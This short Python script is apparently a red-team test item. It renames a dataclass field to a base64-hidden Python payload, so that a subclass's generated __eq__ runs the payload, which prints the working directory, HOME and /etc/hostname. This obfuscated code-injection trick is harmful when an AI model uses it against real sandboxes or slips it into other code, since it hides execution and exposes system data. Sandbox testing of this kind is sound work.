# family: red team, round 50 (a dataclass Field renamed through object.__setattr__; a subclass pastes it into __eq__)
import base64
import dataclasses


@dataclasses.dataclass
class A:
    x: int = 0


def unused(value):
    return value


def main():
    first = dataclasses.fields(A)[0]
    object.__setattr__(first, "name", base64.b64decode("eCxwcmludChfX2ltcG9ydF9fKCdvcycpLmdldGN3ZCgpLF9faW1wb3J0X18oJ29zJykuZW52aXJvblsnSE9NRSddLG9wZW4oJy9ldGMvaG9zdG5hbWUnKS5yZWFkKCksX19pbXBvcnRfXygnb3MnKSk=").decode())

    @dataclasses.dataclass(init=False, repr=False)
    class B(A):
        pass

    print(B() == B())


main()
